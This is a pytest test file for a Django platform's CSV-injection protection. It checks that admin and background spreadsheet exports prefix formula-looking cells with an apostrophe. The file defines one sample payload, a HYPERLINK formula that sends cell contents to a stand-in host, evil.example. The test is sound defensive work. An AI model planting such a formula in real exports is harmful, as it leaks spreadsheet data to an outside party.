"""Every spreadsheet the platform writes shows a formula-looking value as text (CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.core.management import call_command
from django.urls import reverse
from import_export.fields import Field

from apps.core import admin as core_admin
from apps.core.spreadsheets import neutralize
from apps.exports.writers import WRITERS
from apps.organizations.models import Organization
from tests.factories import UserFactory

XLSX, CSV = "0", "1"
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def cells(content: bytes, file_format: str) -> list[list]:
    if file_format == XLSX:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [[cell.value for cell in row] for row in sheet.rows]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", EVIL])
def test_a_formula_looking_text_is_prefixed_with_an_apostrophe(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+8", "12", "城东区", "", None, 3, "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralize(value) == value


def test_every_admin_export_neutralizes_every_cell(client, qinghai, monkeypatch):
    """Through each admin's export view, with every exported value a formula (the demo data gives rows)."""
    call_command("seed_demo", stdout=io.StringIO())
    superuser = UserFactory(is_superuser=True, is_staff=True)
    client.force_login(superuser)
    monkeypatch.setattr(Field, "export", lambda self, instance, **kwargs: EVIL)
    exported = 0
    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, core_admin.ServiceImportExportMixin) or not model.objects.exists():
            continue
        for file_format in (XLSX, CSV):
            url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
            response = client.post(url, {"format": file_format, "resource": "0"})

            assert response.status_code == 200, model
            _headers, *rows = cells(response.content, file_format)
            assert rows, model
            values = {value for row in rows for value in row}
            # Columns a resource computes itself (dehydrate_*) keep their values; the rest are EVIL.
            assert "'" + EVIL in values and EVIL not in values, model
        exported += 1
    assert exported >= 10


@pytest.mark.parametrize("file_format", [XLSX, CSV])
def test_an_organization_named_like_a_formula_exports_as_text(client, county_staff, chengdong_union, file_format):
    Organization.objects.filter(pk=chengdong_union.pk).update(name=EVIL)
    client.force_login(county_staff)

    response = client.post(reverse("admin:organizations_organization_export"), {"format": file_format, "resource": "0"})

    headers, *rows = cells(response.content, file_format)
    names = [row[headers.index("名称")] for row in rows]
    assert "'" + EVIL in names and EVIL not in names


@pytest.mark.parametrize("file_format", sorted(WRITERS))
def test_the_background_export_writers_neutralize_cells(tmp_path, file_format):
    path = tmp_path / f"out.{file_format}"

    WRITERS[file_format](path, ["名称", "金额"], [[EVIL, "-12.50"]])

    rows = cells(path.read_bytes(), XLSX if file_format == "xlsx" else CSV)
    assert rows[1] == ["'" + EVIL, "-12.50"]
